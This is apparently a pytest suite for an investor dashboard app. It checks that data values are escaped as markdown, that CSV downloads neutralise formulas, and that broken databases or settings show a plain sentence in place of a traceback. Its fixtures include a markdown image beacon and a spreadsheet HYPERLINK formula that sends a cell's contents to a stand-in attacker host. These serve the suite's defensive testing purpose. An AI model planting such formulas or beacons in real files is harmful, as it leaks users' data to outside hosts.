"""Nothing from the data runs as markup or as a spreadsheet formula, and no viewer sees a
traceback (a page that cannot compute says so in one sentence, with an error reference)."""

import csv
import io
import json
import shutil
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest

from apptest_harness import no_exception, signed_in, through_link
from conftest import FIXTURE_EXPORT
from expertnet.metrics import breakdowns
from expertnet.access import app_state, share_links
from expertnet.metrics.filters import add_months, month_range
from expertnet.ingest.load import ingest
from expertnet.ui.text import md
from expertnet.warehouse import open_read_only

ROOT = Path(__file__).resolve().parents[1]
BEACON = "![x](http://host/beacon.png)"
FORMULA = '=HYPERLINK("http://evil.example/?"&B3,"open")'


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    """The fixture export with one expert's domain an image and another's name a formula: both
    pass the contract (a lower-case domain, a name is any text)."""
    folder = tmp_path_factory.mktemp("hostile-export")
    for path in FIXTURE_EXPORT.glob("*.csv"):
        shutil.copy(path, folder / path.name)
    rows = list(csv.DictReader((folder / "experts.csv").open()))
    rows[0]["domain"] = BEACON
    rows[1]["full_name"] = FORMULA
    with (folder / "experts.csv").open("w", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    db = tmp_path_factory.mktemp("hostile-db") / "warehouse.duckdb"
    ingest(folder, db)
    return db


def test_md_escapes_every_markup_character():
    assert md(BEACON) == "\\!\\[x\\]\\(http\\:\u200b//host/beacon.png\\)"
    # addresses do not become links by themselves
    assert md("see www.evil.example or https://evil.example") == \
        "see www\u200b.evil.example or https\\:\u200b//evil.example"
    assert md(":red[alert] $x$ <b>b</b> *em* `code` ~~s~~ a|b\n# next") == \
        r"\:red\[alert\] \$x\$ \<b\>b\</b\> \*em\* \`code\` \~\~s\~\~ a\|b # next"
    # what starts a list, a heading or a rule is escaped where the value starts a line
    assert [md(v) for v in ("- item", "+ item", "# h", "1. x", "12) x", "=")] == \
        [r"\- item", r"\+ item", r"\# h", r"1\. x", r"12\) x", r"\="]
    # and ordinary text keeps its look
    assert md("signup cohort 2024-06, o@example.com") == "signup cohort 2024-06, o@example.com"
    assert md("2024-06") == "2024-06"


def test_a_domain_that_is_markdown_is_shown_as_text(hostile_db, monkeypatch, app_env):
    monkeypatch.setenv("EXPERTNET_DB", str(hostile_db))
    at = signed_in(domain=BEACON).run()
    no_exception(at)
    caption = at.main.caption[0].value
    assert "domain \\!\\[x\\]\\(http\\:\u200b//host/beacon.png\\)" in caption
    assert BEACON not in caption
    # a share link locked to it, and its investor's sidebar
    link, token, _ = share_links.create_link("Ann ![y](http://host/b.png)", 7, "f@example.com",
                                             locked_domain=None)
    at = through_link(token).run()
    no_exception(at)
    banner = [i.value for i in at.info][0]
    assert "Shared with Ann \\!\\[y\\]\\(http\\:\u200b//host/b.png\\)" in banner


def test_csv_downloads_neutralise_formulas_and_keep_numbers(hostile_db):
    with open_read_only(str(hostile_db)) as con:
        data = breakdowns.experts_csv(con, date(2024, 1, 1), date(2025, 6, 1), active_only=False)
    rows = list(csv.DictReader(io.StringIO(data.decode())))
    names = {r["full_name"] for r in rows}
    assert "'" + FORMULA in names and FORMULA not in names
    assert all(not r[c].startswith(("=", "+", "@")) for r in rows for c in r)
    # numbers stay numbers: no apostrophe in front of a figure
    assert all(r["hours"].replace(".", "", 1).isdigit() for r in rows)


def test_month_arithmetic_never_raises_at_the_edge_of_the_calendar():
    assert add_months(date(9999, 12, 1), 1) == date(9999, 12, 1)
    assert add_months(date(1, 1, 1), -13) == date(1, 1, 1)
    assert add_months(date(2025, 1, 1), -1) == date(2024, 12, 1)
    assert month_range(date(9999, 11, 1), date(9999, 12, 1)) == [date(9999, 11, 1), date(9999, 12, 1)]


def test_kpis_of_an_extreme_month_print_no_traceback(fixture_db):
    done = subprocess.run([sys.executable, "-m", "expertnet", "kpis", "--db", str(fixture_db), "--month", "0001-02",
                           "--format", "json"], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert "Traceback" not in done.stderr
    assert done.returncode == 0, done.stderr
    values = json.loads(done.stdout)          # strict JSON: no NaN or Infinity
    assert values["month"] == "0001-02" and values["experts_total"] == 0


def test_a_broken_app_state_shows_a_sentence_and_a_reference_never_a_traceback(app_env):
    _link, token, _url = share_links.create_link("Ann", 7, "f@example.com")
    # damaged while no process held it open (an open connection would still read every page from
    # its write-ahead log, and write them back at its checkpoint)
    app_state.close_all()
    (app_env / "app_state.sqlite3").write_bytes(b"this is not a database" * 100)
    # a founder (signed in with the identity provider) opens Share, which reads the app state:
    # a sentence that says what is wrong, and a reference, in place of the page
    founder = signed_in().run()
    founder.switch_page("pages/share.py").run()
    assert not founder.exception
    [error] = [e.value for e in founder.error]
    assert error.startswith("This page could not be shown. cannot open the app-state database") or \
        error.startswith("This page could not be shown. the app-state database at")
    assert "Error reference: " in error and "Traceback" not in error
    assert founder.sidebar.select_slider, "the rest of the dashboard (the sidebar) keeps working"
    # an investor (whose link cannot be looked up) gets the sentence, not the path nor the words
    investor = through_link(token).run()
    assert not investor.exception
    [error] = [e.value for e in investor.error]
    assert str(app_env) not in error and "database" not in error
    assert error.startswith("This page could not be shown. Error reference: ")


@pytest.mark.parametrize("breakage", ["short share key", "truncated warehouse", "app state is a folder"])
def test_broken_parts_show_investors_a_plain_sentence(breakage, app_env, fixture_db, monkeypatch, tmp_path):
    _link, token, _url = share_links.create_link("Ann", 7, "f@example.com")
    if breakage == "short share key":
        (app_env / "share_signing.key").write_bytes(b"short")
    elif breakage == "truncated warehouse":
        broken = tmp_path / "truncated.duckdb"
        broken.write_bytes(fixture_db.read_bytes()[:50_000])
        monkeypatch.setenv("EXPERTNET_DB", str(broken))
    else:
        folder = tmp_path / "state-folder"
        folder.mkdir()
        monkeypatch.setenv("EXPERTNET_APP_STATE", str(folder))
    investor = through_link(token).run()
    assert not investor.exception
    [error] = [e.value for e in investor.error]
    assert error.startswith("This page could not be shown. Error reference: ")
    assert str(tmp_path) not in error and str(app_env) not in error


@pytest.mark.slow
def test_ctrl_c_stops_the_server_with_one_line(fixture_db, tmp_path):
    import os
    import signal
    from bench.browser_pages import free_port, start_server
    env = dict(os.environ, EXPERTNET_DB=str(fixture_db), EXPERTNET_APP_STATE=str(tmp_path / "a.sqlite3"),
               EXPERTNET_SHARE_KEY_FILE=str(tmp_path / "k"), EXPERTNET_SECRETS=str(tmp_path / "n.toml"),
               EXPERTNET_DEMO="1", EXPERTNET_PREWARM="1")
    port = free_port()
    process = start_server(env, port)
    import time
    import urllib.request
    deadline = time.monotonic() + 60     # up and answering (a loaded machine starts slowly) ...
    while time.monotonic() < deadline:
        try:
            if urllib.request.urlopen(f"http://127.0.0.1:{port}/_stcore/health", timeout=2).status == 200:
                break
        except OSError:
            time.sleep(0.2)
    time.sleep(2)                      # ... and the snapshot watcher has opened the warehouse
    process.send_signal(signal.SIGINT)
    out = process.communicate(timeout=60)[0].decode()
    after = out.split("URL: ", 1)[1].splitlines()[1:]
    shown = [line for line in after if line.strip() and "pre-warmed" not in line and "MemoryCacheStorage" not in line]
    # click's one word, or (seen on a loaded machine, where Streamlit's own handler stopped it
    # first) nothing at all: never a traceback or the warehouse's "leaked" lines
    assert shown in ([], ["Aborted!"]), out
    assert process.returncode == 0


def test_an_incomplete_auth_section_says_which_settings_are_missing(app_env):
    from streamlit.testing.v1 import AppTest
    from apptest_harness import APP
    at = AppTest.from_file(APP, default_timeout=30)
    at.secrets["auth"] = {"redirect_uri": "http://localhost:8501/oauth2callback", "client_secret": "s3cr3t-value"}
    at.run()
    assert not at.exception
    assert [t.value for t in at.title] == ["Sign-in is not fully configured"]
    [message] = [i.value for i in at.info]
    assert message == ("The [auth] section of the secrets file lacks cookie_secret, client_id, server_metadata_url. "
                       "Fill it in as .streamlit/secrets.toml.example shows, then reload this page.")
    assert "s3cr3t" not in message


def test_an_export_of_headers_only_loads_and_every_page_says_there_is_nothing(tmp_path, app_env, monkeypatch):
    folder = tmp_path / "empty-export"
    folder.mkdir()
    for path in FIXTURE_EXPORT.glob("*.csv"):
        (folder / path.name).write_text(path.read_text().splitlines()[0] + "\n")
    db = tmp_path / "empty.duckdb"
    ingest(folder, db)
    monkeypatch.setenv("EXPERTNET_DB", str(db))
    at = signed_in().run()
    for path in ("pages/overview.py", "pages/network_growth.py", "pages/payouts.py", "pages/revenue.py",
                 "pages/cohorts.py", "pages/valuation.py", "pages/experts.py", "pages/share.py",
                 "pages/definitions.py"):
        at.switch_page(path).run()
        no_exception(at)
        assert not at.error, (path, [e.value for e in at.error])


def test_the_cli_refuses_year_0_and_prints_no_infinity(tmp_path):
    done = subprocess.run([sys.executable, "-m", "expertnet", "kpis", "--db", str(tmp_path / "x.duckdb"),
                           "--month", "0000-01"], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert "month must be a month as YYYY-MM" in done.stderr
    # a bill rate of 308 nines is finite and loads; the sums it makes are not: null, never Infinity
    folder = tmp_path / "huge"
    shutil.copytree(FIXTURE_EXPORT, folder)
    lines = (folder / "contracts.csv").read_text().splitlines()
    header = lines[0].split(",")
    row = lines[1].split(",")
    row[header.index("bill_rate_usd")] = "9" * 308
    lines[1] = ",".join(row)
    (folder / "contracts.csv").write_text("\n".join(lines) + "\n")
    ingest(folder, tmp_path / "huge.duckdb")
    done = subprocess.run([sys.executable, "-m", "expertnet", "kpis", "--db", str(tmp_path / "huge.duckdb"),
                           "--month", "2025-06", "--format", "json"], cwd=ROOT, capture_output=True, text=True,
                          timeout=120)
    assert done.returncode == 0, done.stderr
    values = json.loads(done.stdout, parse_constant=lambda c: pytest.fail(f"{c} in the JSON"))
    assert values["billings_usd"] is None or abs(values["billings_usd"]) < float("inf")


def test_a_contract_valid_domain_can_be_locked_by_a_link(app_env):
    link, _token, _url = share_links.create_link("Ann", 7, "f@example.com", locked_domain="médecine générale")
    assert link.locked_domain == "médecine générale"
    with pytest.raises(Exception, match="lower-case"):
        share_links.create_link("Ann", 7, "f@example.com", locked_domain="Bad\x00domain")
